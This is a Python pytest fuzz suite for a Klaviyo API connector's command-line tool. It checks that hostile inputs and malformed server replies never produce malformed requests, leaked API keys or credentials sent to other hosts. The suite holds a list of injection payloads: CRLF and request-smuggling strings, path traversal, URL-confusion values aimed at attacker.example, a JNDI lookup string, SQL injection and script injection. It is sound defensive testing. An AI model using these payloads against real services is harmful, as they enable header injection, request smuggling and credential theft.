"""Fuzzing every action and data source through the CLI's ``main()``, in process.

Each case starts from valid inputs for one action (the catalog's examples), replaces some of them with
hostile values (random types, huge and deeply nested values, unicode with lone surrogates, CRLF, ``../``,
``\\@host`` and smuggling strings), delivers them as ``--inputs FILE``, ``--inputs -`` or ``--input k=v``,
and answers every request with a random pick of good and bad answers (errors, 429s with odd Retry-After
values, HTML, invalid UTF-8, deep JSON, ``{"data": null}``, odd ``links.next``, redirects without
``Location``, to tricky or other hosts, loops). The properties checked for every case:

- ``main()`` never exits 1 (an unexpected error) and prints one JSON document (stdout on success, stderr
  on failure), never the API key;
- every request that is sent is well formed: an ASCII URL without whitespace, controls, backslashes or
  user information, whose host urllib3 and urlsplit agree on; header names that are tokens and values
  that are Latin-1 without controls; no framing header (``Transfer-Encoding``, ``Host``...) besides a
  ``Content-Length`` that matches the body;
- every request goes to the configured host (with the connection's credential, or none), except a
  redirect hop to another host that the server asked for, which carries neither the credential nor a body.

``test_fuzz_cli_in_process`` uses ``responses``; ``test_fuzz_cli_over_loopback`` sends a smaller share to a
raw 127.0.0.1 server that checks the bytes on the wire (one request per connection, nothing smuggled).
The seed is fixed, so a failure is reproducible; ``KLAVIYO_FUZZ_CASES`` (cases per action, default 24) and
``KLAVIYO_FUZZ_SEED`` scale or vary a run.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import re
import select
import socket
import sys
from typing import Any
from urllib.parse import urlsplit

import pytest
import responses
from conftest import API_KEY, BASE
from loopback import LoopbackServer

from connector.client import urls
from connector.client.clock import SystemClock
from connector.client.headers import HEADER_NAME
from connector.shell.cli import main
from connector.shell.component import COMPONENT

CASES_PER_ACTION = int(os.environ.get("KLAVIYO_FUZZ_CASES", "24"))
SEED = os.environ.get("KLAVIYO_FUZZ_SEED", "klaviyo-fuzz-1")
LOOPBACK_CASES = int(os.environ.get("KLAVIYO_FUZZ_LOOPBACK_CASES", "160"))
ATTACKER = "https://attacker.example"
#: At most this many requests per case; then every answer is a 400 so that no loop can run on.
MAX_REQUESTS = 40

ACTIONS = [action.key for action in COMPONENT.actions()]
SOURCES = [source.key for source in COMPONENT.data_sources()]


class Raw:
    """JSON text spliced into an ``--inputs`` document as is (values too deep for ``json.dumps``)."""

    def __init__(self, text: str) -> None:
        self.text = text


# -- hostile values ------------------------------------------------------------------------------

INJECTIONS = [
    "\r\nX-Injected: 1",
    "a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a.klaviyo.com\r\n\r\n",
    "0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    "../../oauth/token",
    "..%2F..%2Foauth%2Ftoken",
    "/api/../../oauth/revoke",
    "https://attacker.example\\@a.klaviyo.com/api/lists",
    "https://attacker.example%5C@a.klaviyo.com/api/lists",
    "https://a.klaviyo.com@attacker.example/",
    "//attacker.example/api/lists",
    "\\\\attacker.example\\api",
    "/\\attacker.example/api",
    "http://a.klaviyo.com/api/lists",
    "https://a.klaviyo.com:444/api/lists",
    "https://a.klaviyo.com./api/lists",
    "javascript:alert(1)",
    "%0d%0aX-Injected:%201",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\u202eevil",
    "\ufeff",
    "\ud800",
    "\udfff",
    "x\ud83d",
    "\udcff\udcfe",
    "😀" * 3,
    "\u20ac",
    "caf\u00e9",
    "${jndi:ldap://attacker.example/a}",
    "'; DROP TABLE lists; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "Transfer-Encoding",
    "chunked",
    "Content-Length",
    " ",
    "",
    "\t",
    "null",
    "true",
    "[]",
    "{}",
    "-1",
    "1e400",
    "NaN",
    "Infinity",
    "9" * 5000,
    "0x10",
]

CHAR_POOLS = [
    "abcXYZ0189-_.~",
    "".join(chr(c) for c in range(0x20, 0x7F)),
    "".join(chr(c) for c in range(0, 0x20)) + "\x7f",
    "".join(chr(c) for c in range(0xA0, 0x100)),
    "\u0100\u0394\u03a9\u0416\u4e2d\u6587\u202e\u200b\ufeff\uffff",
    "\ud800\udbff\udc00\udfff",
    "\U0001f600\U0001f4a9\U00010000\U0010ffff",
]


def random_text(rng: random.Random) -> str:
    pools = rng.sample(CHAR_POOLS, rng.randint(1, 3))
    alphabet = "".join(pools)
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))


def deep_json(rng: random.Random) -> Raw:
    depth = rng.choice([101, 150, 999, 1_001, 5_000, 50_000])
    if rng.random() < 0.5:
        return Raw("[" * depth + "]" * depth)
    return Raw('{"a":' * depth + "1" + "}" * depth)


def fuzz_value(rng: random.Random, depth: int = 0) -> Any:
    kind = rng.randrange(14)
    if kind == 0:
        return rng.choice([0, -1, 1, 2**31, 2**63, -(2**64), 10**30])
    if kind == 1:
        return rng.choice([0.5, -0.0, 1e308, -1e-308, float("nan"), float("inf")])
    if kind == 2:
        return rng.choice([True, False, None])
    if kind in (3, 4):
        return random_text(rng)
    if kind in (5, 6, 7):
        prefix = rng.choice(["", "/api/lists", "ada@example.com", "Y6nRLr", "name"])
        return prefix + rng.choice(INJECTIONS)
    if kind == 8:
        return rng.choice(["A", "\u00e9", "\ud800", "[", "{"]) * rng.choice([10_000, 100_000])
    if kind == 9 and depth < 3:
        return [fuzz_value(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    if kind == 10 and depth < 3:
        return {random_text(rng) or "k": fuzz_value(rng, depth + 1) for _ in range(rng.randint(0, 4))}
    if kind == 11 and depth == 0:
        return deep_json(rng)
    if kind == 12:
        # JSON text of a hostile value (for JSON inputs that parse strings)
        inner = fuzz_value(rng, depth + 1)
        return inner.text if isinstance(inner, Raw) else json.dumps(inner)
    return (
        [
            {
                "key": rng.choice(["X-A", "Transfer-Encoding", "Host", "k\r\n", random_text(rng)]),
                "value": fuzz_value(rng, depth + 1),
            }
            for _ in range(rng.randint(1, 3))
        ]
        if depth < 3
        else ""
    )


def baseline(action_key: str, rng: random.Random) -> dict[str, Any]:
    """Inputs most likely to pass cleaning: the catalog's examples, defaults and choices."""
    values: dict[str, Any] = {}
    spec_list = (
        COMPONENT.action(action_key).input_specs()
        if action_key in ACTIONS
        else COMPONENT.data_source(action_key).input_specs()
    )
    for spec in spec_list[1:]:
        if spec.example is not None:
            values[spec.key] = spec.example
        elif spec.key == "email":
            values[spec.key] = "ada@example.com"
        elif spec.choices:
            values[spec.key] = rng.choice(list(spec.choices))
        elif spec.required:
            values[spec.key] = {"metricName": "Viewed Product", "campaignName": "Spring"}.get(spec.key, "Name")
    if action_key == "rawRequest":
        values.update(url=rng.choice(["/api/lists", "/api/profiles", f"{BASE}/api/lists"]), timeout=5000)
    return values


def mutate(
    action_key: str, values: dict[str, Any], rng: random.Random, counts: tuple[int, ...] = (0, 0, 1, 1, 1, 2, 3)
) -> dict[str, Any]:
    spec_list = (
        COMPONENT.action(action_key).input_specs()
        if action_key in ACTIONS
        else COMPONENT.data_source(action_key).input_specs()
    )
    keys = [spec.key for spec in spec_list[1:]]
    out = dict(values)
    for key in rng.sample(keys, min(len(keys), rng.choice(counts))):
        out[key] = fuzz_value(rng)
    if action_key == "rawRequest" and rng.random() < 0.4:
        name = rng.choice(["Transfer-Encoding", "Content-Length", "Host", "Connection", "X-Note", "Proxy-X", "TE"])
        out["header"] = [{"key": name, "value": rng.choice(["chunked", "10", "x\r\nY: 1", "\u20ac", "ok"])}]
        out.setdefault("data", rng.choice(["0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n", '{"a": 1}', None]))
        out["method"] = rng.choice(["GET", "POST", "PATCH", "DELETE", "HEAD", "put"])
    if rng.random() < 0.05:
        out[rng.choice(["unknown\ud800", "../x", "a" * 1000])] = "x"
    return out


def inputs_document(values: dict[str, Any]) -> str:
    """The ``--inputs`` text: JSON, with Raw values spliced in and lone surrogates as escapes."""
    parts = []
    for key, value in values.items():
        text = value.text if isinstance(value, Raw) else json.dumps(value)  # NaN/Infinity stay NaN/Infinity
        parts.append(f"{json.dumps(key)}: {text}")
    return "{" + ", ".join(parts) + "}"


# -- hostile answers -----------------------------------------------------------------------------


def answer_for(rng: random.Random, method: str, url: str, count: int) -> tuple[int, dict[str, str], bytes]:
    """One random answer: mostly plausible, often malformed."""
    if count > MAX_REQUESTS:
        return 400, {"Content-Type": "application/vnd.api+json"}, b'{"errors": [{"detail": "enough"}]}'
    resource = {"type": "profile", "id": "01H" + str(count), "attributes": {"name": "x"}}
    jsonapi = {"Content-Type": "application/vnd.api+json"}
    pick = rng.randrange(30)
    if pick < 6:
        status = {"POST": 201, "DELETE": 204}.get(method, 200)
        if status == 204:
            return 204, {}, b""
        body = {"data": resource} if status == 201 or rng.random() < 0.5 else {"data": [resource]}
        return status, jsonapi, json.dumps(body).encode()
    if pick == 6:
        return 202, {}, b""
    if pick == 7:
        nxt = rng.choice(
            [
                5,
                {"href": url},
                ["x"],
                True,
                url,
                f"{ATTACKER}/p",
                "https://attacker.example\\@a.klaviyo.com/p",
                f"{BASE}/api/lists?page%5Bcursor%5D={count}",
                None,
                "",
                "/relative\r\nX: 1",
            ]
        )
        return 200, jsonapi, json.dumps({"data": [resource], "links": {"next": nxt}}).encode()
    if pick in (8, 9):
        status = rng.choice([400, 401, 403, 404, 405, 409, 413, 418, 422])
        meta = {"duplicate_profile_id": rng.choice(["01HX", 5, None, "\ud800"])} if status == 409 else {}
        errors = [
            {
                "code": rng.choice(["invalid", "duplicate_profile", None]),
                "detail": "no",
                "meta": meta,
                "source": rng.choice([{"pointer": "/data/attributes/profiles/data/0/attributes/email"}, "x", None]),
            }
        ]
        return status, jsonapi, json.dumps({"errors": rng.choice([errors, "x", None, [5]])}).encode()
    if pick == 10:
        retry = rng.choice(
            [
                "1",
                "0",
                "-5",
                "nan",
                "inf",
                "1e400",
                "soon",
                "9" * 400,
                "Wed, 21 Oct 2015 07:28:00 GMT",
                "Thu, 01 Jan 9999 00:00:00 GMT",
                "400",
                "",
            ]
        )
        return rng.choice([429, 503]), {"Retry-After": retry, **jsonapi}, b'{"errors": []}'
    if pick == 11:
        return rng.choice([500, 502, 504]), {"Content-Type": "text/html"}, b"<html>oops</html>"
    if pick == 12:
        return (
            200,
            {"Content-Type": "text/html"},
            b"<html><body>Log in to the Wi-Fi " + API_KEY.encode() + b"</body></html>",
        )
    if pick == 13:
        return rng.choice([200, 201]), jsonapi, b"\xff\xfe\xfa" + API_KEY.encode()
    if pick == 14:
        depth = rng.choice([500, 990, 1_500, 100_000])
        closed = rng.random() < 0.5
        return 200, jsonapi, b'{"data": ' + b"[" * depth + (b"]" * depth + b"}" if closed else b"")
    if pick == 15:
        return (
            rng.choice([200, 201]),
            jsonapi,
            rng.choice(
                [b'{"data": null}', b"[]", b'"x"', b'{"data": 5}', b"NaN", b'{"data": {"id": "\\ud800"}}', b"{"]
            ),
        )
    if pick == 16:
        return rng.choice([301, 302, 303, 307, 308, 300, 305]), {}, b""
    if pick in (17, 18):
        location = rng.choice(
            [
                "https://attacker.example\\@a.klaviyo.com/api/lists",
                "https://attacker.example%5C@a.klaviyo.com/x",
                "//attacker.example/x",
                "\\\\attacker.example/x",
                "/\\attacker.example/x",
                f"{ATTACKER}/collect",
                "http://a.klaviyo.com/api/lists",
                url,
                "/api/lists",
                "/api/x\r\nX-Injected: 1",
                "https://a.klaviyo.com /x",
                "https://\uff41.klaviyo.com/x",
                "",
            ]
        )
        return rng.choice([301, 302, 303, 307, 308]), {"Location": location}, b""
    if pick == 19:
        return 200, {"Content-Type": "text/plain"}, b"x" * 300_000
    if pick == 20:
        return (
            200,
            {"RateLimit-Limit": "9" * 400, "RateLimit-Remaining": "nan", "RateLimit-Reset": "-1", **jsonapi},
            b'{"data": []}',
        )
    status = {"POST": 201, "DELETE": 204, "PATCH": 200}.get(method, 200)
    if status == 204:
        return 204, {}, b""
    return (
        status,
        jsonapi,
        json.dumps({"data": resource if status == 201 else [resource], "links": {"next": None}}).encode(),
    )


# -- what every sent request must look like ---------------------------------------------------------

_BAD_VALUE = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")
_BAD_URL = re.compile(r"[\s\x00-\x1f\x7f\\]")


def check_sent(request: Any, redirected_to: set[str], case: str) -> None:
    url = str(request.url)
    assert url.isascii() and not _BAD_URL.search(url), f"{case}: malformed URL {url!r}"
    from urllib3.util import parse_url

    parsed = parse_url(url)
    assert parsed.auth is None, f"{case}: userinfo in {url!r}"
    assert (urlsplit(url).hostname or "").lower() == (parsed.host or "").lower(), f"{case}: parsers disagree on {url!r}"
    headers = request.headers
    for name, value in headers.items():
        assert HEADER_NAME.fullmatch(name), f"{case}: header name {name!r}"
        text = value.decode("latin-1") if isinstance(value, bytes) else value
        assert isinstance(text, str), f"{case}: header {name} is {type(value).__name__}"
        text.encode("latin-1")
        assert not _BAD_VALUE.search(text) and text == text.strip(" \t"), f"{case}: header {name}: {text!r}"
        lowered = name.lower()
        assert lowered not in ("transfer-encoding", "host", "te", "trailer", "upgrade", "keep-alive"), f"{case}: {name}"
        assert not lowered.startswith("proxy-"), f"{case}: {name}"
        if lowered == "connection":
            assert text == "keep-alive", f"{case}: Connection: {text!r}"
    body = request.body
    assert body is None or isinstance(body, (bytes, str)), f"{case}: body {type(body).__name__}"
    raw_body = body.encode("utf-8") if isinstance(body, str) else body
    if "Content-Length" in headers:
        assert int(headers["Content-Length"]) == len(raw_body or b""), f"{case}: Content-Length does not match"
    if urls.origin(url) == urls.origin(BASE):
        auth = headers.get("Authorization")
        assert auth in (None, f"Klaviyo-API-Key {API_KEY}"), f"{case}: Authorization {auth!r}"
    else:
        assert url in redirected_to, f"{case}: a request to another host nobody redirected to: {url!r}"
        assert "Authorization" not in headers, f"{case}: the credential left the host: {url!r}"
        assert not raw_body, f"{case}: a body went to another host: {url!r}"


def _strict_json(text: str, case: str) -> Any:
    def refuse(name: str) -> Any:
        raise AssertionError(f"{case}: {name} printed, which is not JSON")

    return json.loads(text, parse_constant=refuse)


def check_output(code: int, out: str, err: str, case: str) -> None:
    assert code != 1, f"{case}: exit 1 (unexpected error): {err[:500]}"
    assert code in (0, 2, 3, 4, 5), f"{case}: exit {code}"
    assert API_KEY not in out + err, f"{case}: the API key was printed"
    if code == 0:
        if out.strip():
            _strict_json(out, case)
    else:
        lines = [line for line in err.splitlines() if line.strip()]
        assert len(lines) == 1, f"{case}: stderr is not one JSON line: {err[:500]}"
        assert "error" in _strict_json(lines[0], case), f"{case}: {lines[0][:300]}"


# -- running a case ---------------------------------------------------------------------------------


class FakeTime:
    """Stands in for the system clock inside ``main()``: waits advance it instead of sleeping."""

    def __init__(self) -> None:
        self.offset = 0.0

    def install(self, monkeypatch: pytest.MonkeyPatch) -> None:
        real_monotonic, real_time = SystemClock.monotonic, SystemClock.time
        monkeypatch.setattr(SystemClock, "sleep", lambda _self, seconds: self.advance(seconds))
        monkeypatch.setattr(SystemClock, "monotonic", lambda _self: real_monotonic(_self) + self.offset)
        monkeypatch.setattr(SystemClock, "time", lambda _self: real_time(_self) + self.offset)

    def advance(self, seconds: float) -> None:
        self.offset += max(0.0, seconds)


def argv_for(
    key: str, values: dict[str, Any], rng: random.Random, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> list[str]:
    command = "run" if key in ACTIONS else "source"
    how = rng.random()
    if how < 0.2 and all(isinstance(v, str) for v in values.values()):
        argv = [command, key]
        for k, v in values.items():
            argv += ["-i", f"{k}={v}"]
        return argv
    text = inputs_document(values)
    if how < 0.6:
        path = tmp_path / "inputs.json"
        path.write_bytes(text.encode("utf-8", "surrogatepass") if rng.random() < 0.05 else text.encode("utf-8"))
        return [command, key, "--inputs", str(path)]
    monkeypatch.setattr(sys, "stdin", io.StringIO(text))
    return [command, key, "--inputs", "-"]


def cases(count: int) -> list[tuple[str, int]]:
    keys = ACTIONS + SOURCES
    return [(key, i) for key in keys for i in range(_cases_for(key, count))]


def _cases_for(key: str, count: int) -> int:
    """Declared actions get every case; the 308 derived ones share one mechanism, so a few each suffice."""
    from actions._index import ACTION_MODULES

    if key not in ACTIONS:
        return max(1, count // 3)
    return max(2, count // 8) if ACTION_MODULES.get(key) == "actions.operations" else count


def test_every_action_and_source_is_fuzzed() -> None:
    assert len(ACTIONS) >= 46 and len(SOURCES) >= 7
    assert {key for key, _ in cases(1)} == set(ACTIONS + SOURCES)


def test_fuzz_cli_in_process(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Any
) -> None:
    monkeypatch.setenv("KLAVIYO_API_KEY", API_KEY)
    monkeypatch.setenv("KLAVIYO_BASE_URL", BASE)
    FakeTime().install(monkeypatch)
    run = 0
    exit_codes: dict[int, int] = {}
    sent = 0
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        state: dict[str, Any] = {}

        def reply(request: Any) -> tuple[int, dict[str, str], bytes]:
            state["count"] += 1
            state["requests"].append(request)
            status, headers, body = answer_for(state["rng"], request.method, str(request.url), state["count"])
            if "Location" in headers:
                location = headers["Location"]
                with contextlib.suppress(Exception):  # an unparsable Location is never followed
                    state["redirected_to"].add(str(_prepared_location(request.url, location)))
            return status, headers, body

        rsps.add_callback(responses.GET, re.compile(".*"), callback=reply)
        for method in ("POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"):
            rsps.add_callback(method, re.compile(".*"), callback=reply)
        for key, i in cases(CASES_PER_ACTION):
            rng = random.Random(f"{SEED}/{key}/{i}")
            values = mutate(key, baseline(key, rng), rng)
            case = f"{key}#{i} (seed {SEED})"
            state.update(rng=random.Random(f"{SEED}/{key}/{i}/answers"), count=0, requests=[], redirected_to=set())
            argv = argv_for(key, values, rng, tmp_path, monkeypatch)
            code = main(argv)
            out, err = capsys.readouterr()
            check_output(code, out, err, case)
            for request in state["requests"]:
                check_sent(request, state["redirected_to"], case)
            run += 1
            sent += len(state["requests"])
            exit_codes[code] = exit_codes.get(code, 0) + 1
    print(f"fuzz: {run} CLI cases, {sent} requests checked, exit codes {dict(sorted(exit_codes.items()))}")
    assert run == len(cases(CASES_PER_ACTION))
    assert all(exit_codes.get(code) for code in (0, 2, 4, 5)), exit_codes  # the fuzz reaches every outcome


def _prepared_location(current: str, location: str) -> str:
    from urllib.parse import urljoin

    import requests

    return str(requests.Request("GET", urljoin(current, location)).prepare().url)


# -- the same over real sockets ---------------------------------------------------------------------


def _wire_check(data: bytes, conn: socket.socket, port: int) -> str | None:
    """Why the bytes of one request are not exactly one well-formed HTTP/1.1 request, or None."""
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return "no end of headers"
    lines = head.split(b"\r\n")
    if not re.fullmatch(rb"[A-Z]+ /[\x21-\x7e]* HTTP/1\.1", lines[0]):
        return f"request line {lines[0][:200]!r}"
    length = None
    for line in lines[1:]:
        name, colon, value = line.partition(b":")
        if not colon or not HEADER_NAME.fullmatch(name.decode("latin-1")):
            return f"header line {line[:200]!r}"
        lowered = name.lower()
        if lowered in (b"transfer-encoding", b"te", b"upgrade", b"trailer") or lowered.startswith(b"proxy-"):
            return f"framing header {line[:200]!r}"
        if lowered == b"host" and value.strip() != f"127.0.0.1:{port}".encode():
            return f"Host {value!r}"
        if lowered == b"content-length":
            if length is not None:
                return "two Content-Length headers"
            length = int(value.strip())
    if len(body) != (length or 0):
        return f"body of {len(body)} bytes, Content-Length {length}"
    readable, _, _ = select.select([conn], [], [], 0.01)
    if readable and conn.recv(1, socket.MSG_PEEK):
        return "bytes after the request: a second request smuggled in"
    return None


def test_fuzz_cli_over_loopback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Any
) -> None:
    problems: list[str] = []
    state: dict[str, Any] = {"rng": random.Random(0), "count": 0}

    def respond(conn: socket.socket, data: bytes) -> None:
        state["count"] += 1
        problem = _wire_check(data, conn, server.port)
        if problem:
            problems.append(f"{state['case']}: {problem}")
        path = data.split(b" ", 2)[1].decode("latin-1") if b" " in data else "/"
        status, headers, body = answer_for(
            state["rng"], data.split(b" ", 1)[0].decode(), server.url + path, state["count"]
        )
        if "Location" in headers:  # other hosts become the second loopback server: nothing leaves 127.0.0.1
            for host in ("https://attacker.example", "http://a.klaviyo.com", "https://a.klaviyo.com"):
                headers["Location"] = headers["Location"].replace(host, other.url)
            headers["Location"] = headers["Location"].replace("//attacker.example", f"//127.0.0.1:{other.port}")
        head = [f"HTTP/1.1 {status} X", f"Content-Length: {len(body)}", "Connection: close"]
        head += [f"{k}: {v}" for k, v in headers.items() if "\r" not in v and "\n" not in v]
        conn.sendall(("\r\n".join(head) + "\r\n\r\n").encode("latin-1", "replace") + body)

    server = LoopbackServer(respond)
    ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
    other = LoopbackServer(lambda conn, data: conn.sendall(ok))
    real_getaddrinfo = socket.getaddrinfo

    def loopback_only(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host not in ("127.0.0.1", "localhost"):
            problems.append(f"{state.get('case')}: tried to resolve {host!r}")
            raise socket.gaierror(f"the fuzz test stays on 127.0.0.1 ({host!r})")
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", loopback_only)
    try:
        monkeypatch.setenv("KLAVIYO_API_KEY", API_KEY)
        monkeypatch.setenv("KLAVIYO_BASE_URL", server.url)
        FakeTime().install(monkeypatch)
        rng = random.Random(f"{SEED}/loopback")
        keys = ["rawRequest"] * 3 + ACTIONS + SOURCES
        for i in range(LOOPBACK_CASES):
            key = rng.choice(keys)
            values = mutate(key, baseline(key, rng), rng, counts=(0, 0, 0, 1, 1, 2))
            if key == "rawRequest" and str(values.get("url", "")).startswith(BASE):
                values["url"] = server.url + str(values["url"])[len(BASE) :]
            state.update(rng=random.Random(f"{SEED}/loopback/{i}"), count=0, case=f"loopback {key}#{i}")
            argv = argv_for(key, values, rng, tmp_path, monkeypatch)
            code = main(argv)
            out, err = capsys.readouterr()
            check_output(code, out, err, state["case"])
    finally:
        server.close()
        other.close()
    assert problems == []
    for data in other.requests:  # the other host only ever got redirect hops without the credential
        assert b"authorization:" not in data.lower()
    print(f"fuzz over loopback: {LOOPBACK_CASES} CLI cases, {len(server.requests)} requests checked on the wire")
